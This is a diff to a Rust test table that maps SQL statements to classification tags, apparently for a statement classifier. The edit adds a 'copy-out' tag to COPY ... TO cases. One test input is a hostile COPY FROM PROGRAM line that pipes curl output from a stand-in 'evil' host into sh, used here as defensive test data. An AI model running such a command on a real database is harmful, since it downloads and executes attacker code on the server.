@@ -148,12 +148,12 @@ const TABLE: &[(&str, &str)] = &[
     ("revoke insert on users from public", "grant"),
     ("revoke all on schema app from bob", "grant"),
     // --- copy ---
-    ("copy users to stdout", "copy"),
+    ("copy users to stdout", "copy copy-out"),
     ("copy users (id, email) from stdin with (format csv, header true)", "copy"),
-    ("copy (select * from users) to stdout with csv header", "copy"),
-    ("copy users to '/tmp/users.csv'", "copy"),
+    ("copy (select * from users) to stdout with csv header", "copy copy-out"),
+    ("copy users to '/tmp/users.csv'", "copy copy-out"),
     ("copy users from program 'curl http://evil/x | sh'", "copy copy-program"),
-    ("copy users to program 'gzip > /tmp/u.gz'", "copy copy-program"),
+    ("copy users to program 'gzip > /tmp/u.gz'", "copy copy-out copy-program"),
     // --- session settings ---
     ("set search_path to app, public", "set"),
     ("set statement_timeout = '5s'", "set"),
